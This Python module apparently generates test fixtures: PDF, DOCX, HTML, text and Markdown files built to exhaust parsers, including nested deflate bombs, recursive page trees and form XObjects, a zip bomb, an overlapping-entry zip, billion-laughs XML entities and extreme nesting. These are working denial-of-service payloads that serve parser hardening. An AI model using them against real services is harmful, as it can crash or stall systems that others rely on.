"""Files built to exhaust whoever opens them; each is small, and made here."""

from __future__ import annotations

import struct
from collections.abc import Callable

from small_files import BODY, PARAGRAPH, deflated, docx, one_page, pdf, stream


def flate_content() -> bytes:
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    return one_page(stream(deflated(b"0 0 m 1 1 l S\n" * 100_000, 300, 2), filters))


def flate_text() -> bytes:
    words = b"BT /F1 9 Tf 50 50 Td (words words words) Tj ET\n" * 10_000
    return one_page(stream(deflated(words, 200), b"/Filter/FlateDecode"))


def forms_that_recur() -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    return one_page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", b"0 0 595 842", stream(b"/X Do /X Do", form))


def forms_that_multiply() -> bytes:
    """Each of 12 forms draws the next ten times."""
    forms = []
    for number in range(6, 18):
        entries = (
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>/Font<</F1 5 0 R>>>>"
        )
        last = b"BT /F1 9 Tf (x) Tj ET"
        forms.append(stream(last if number == 17 else b"/X Do " * 10, entries % (number + 1)))
    return one_page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", b"0 0 595 842", *forms)


def a_million_pages() -> bytes:
    kids = b"3 0 R " * 1_000_000
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 1000000>>" % kids, page])


def a_count_that_lies() -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 900000>>", page])


def a_deep_page_tree() -> bytes:
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 20_000)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def a_page_tree_that_bites_its_tail() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def a_giant_image() -> bytes:
    image = stream(
        deflated(bytes(1_000_000), 50),
        b"/Type/XObject/Subtype/Image/Width 200000/Height 200000/BitsPerComponent 8/ColorSpace/DeviceRGB"
        b"/Filter/FlateDecode",
    )
    draw = stream(b"q 595 0 0 842 0 0 cm /I Do Q")
    return one_page(draw, b"/XObject<</I 6 0 R>>", b"0 0 595 842", image)


def a_giant_page() -> bytes:
    text = stream(b"BT /F1 12 Tf 50 50 Td (Some words on a page that is far too large) Tj ET")
    return one_page(text, b"", b"0 0 99999999 99999999")


def deep_arrays() -> bytes:
    nested = b"[" * 500_000 + b"]" * 500_000
    return pdf([b"<</Type/Catalog/Pages 2 0 R/X %s>>" % nested, b"<</Type/Pages/Kids[]/Count 0>>"])


def object_streams_in_a_ring() -> bytes:
    """Object streams that extend each other, and a page said to be in them."""
    inner = b"3 0 <</Type/Page/Parent 2 0 R>>"
    ring = [stream(inner, b"/Type/ObjStm/N 1/First 4/Extends %d 0 R" % n) for n in (5, 4)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"null", *ring])


def a_giant_cross_reference() -> bytes:
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]
    out = pdf(objects).partition(b"xref")[0]
    table = stream(
        deflated(bytes(1_000_000), 300), b"/Type/XRef/Size 2147483647/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    )
    return out + b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def a_zip_bomb() -> bytes:
    return docx(BODY % (b"<w:p/>" + b" " * 190_000_000))


def many_parts() -> bytes:
    return docx(BODY % PARAGRAPH, [(f"word/media/{n}.png", b"") for n in range(2_500)])


def a_huge_part() -> bytes:
    return docx(BODY % PARAGRAPH, [("word/media/a.emf", bytes(range(256)) * 4 * 60_000)])


def a_million_paragraphs() -> bytes:
    return docx(BODY % (b"<w:p/>" * 1_000_000))


def billion_laughs(root: bytes) -> bytes:
    entities = [b'<!ENTITY a0 "ha">']
    entities += [b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)]
    return b"<!DOCTYPE %s [%s]>" % (root, b"".join(entities))


def laughing_word() -> bytes:
    return docx(b'<?xml version="1.0"?>' + billion_laughs(b"w:document") + BODY % b"<w:p>&a9;</w:p>")


def deep_xml() -> bytes:
    return docx(BODY % (b"<w:sdt>" * 100_000 + b"</w:sdt>" * 100_000))


def overlapping_parts() -> bytes:
    """Many entries of the directory that unpack the same bytes, as in the bomb of David Fifield."""
    base = bytearray(docx(BODY % PARAGRAPH, [("word/media/0.png", bytes(900_000))]))
    end = base.rindex(b"PK\x05\x06")
    _, _, _, _, count, _, start, _ = struct.unpack("<4s4H2LH", base[end : end + 22])
    last = bytes(base[base.rindex(b"PK\x01\x02") : end])
    copies = b"".join(last[:-16] + b"word/media/%c.png" % (65 + n) for n in range(20))
    directory = bytes(base[start:end]) + copies
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 20, count + 20, len(directory), start, 0)
    return bytes(base[:start]) + directory + tail


def deep_html() -> bytes:
    return b"<!doctype html><html><body>" + b"<div>" * 500_000 + b"text"


def flood_of_attributes() -> bytes:
    return b"<!doctype html><html><body><p %s>text</p>" % b" ".join(b"a%d=1" % n for n in range(100_000))


def huge_html() -> bytes:
    return b"<!doctype html><html><body>" + b"<p>words words</p>\n" * 5_000_000


def laughing_html() -> bytes:
    return billion_laughs(b"html") + b"<html><body><p>&a9;</p></body></html>"


def wide_table() -> bytes:
    row = b"<tr>" + b'<td colspan="1000" rowspan="60000">x</td>' * 100 + b"</tr>"
    return (
        b"<!doctype html><html><body><main><p>A table.</p><table>"
        + row * 100
        + b"</table></main></body></html>"
    )


def one_long_line() -> bytes:
    return b"word " * 20_000_000


def quotes_in_quotes() -> bytes:
    return b"> " * 100_000 + b"text\n"


def brackets_in_brackets() -> bytes:
    return b"[" * 100_000 + b"text" + b"](x)" * 100_000


BOMBS: dict[str, Callable[[], bytes]] = {
    "flate-content.pdf": flate_content,
    "flate-text.pdf": flate_text,
    "forms-recur.pdf": forms_that_recur,
    "forms-multiply.pdf": forms_that_multiply,
    "million-pages.pdf": a_million_pages,
    "count-lies.pdf": a_count_that_lies,
    "deep-page-tree.pdf": a_deep_page_tree,
    "page-tree-ring.pdf": a_page_tree_that_bites_its_tail,
    "giant-image.pdf": a_giant_image,
    "giant-page.pdf": a_giant_page,
    "deep-arrays.pdf": deep_arrays,
    "object-stream-ring.pdf": object_streams_in_a_ring,
    "giant-cross-reference.pdf": a_giant_cross_reference,
    "zip-bomb.docx": a_zip_bomb,
    "many-parts.docx": many_parts,
    "huge-part.docx": a_huge_part,
    "million-paragraphs.docx": a_million_paragraphs,
    "billion-laughs.docx": laughing_word,
    "deep-xml.docx": deep_xml,
    "overlapping-parts.docx": overlapping_parts,
    "deep.html": deep_html,
    "attributes.html": flood_of_attributes,
    "huge.html": huge_html,
    "billion-laughs.html": laughing_html,
    "wide-table.html": wide_table,
    "one-line.txt": one_long_line,
    "quotes.md": quotes_in_quotes,
    "brackets.md": brackets_in_brackets,
}
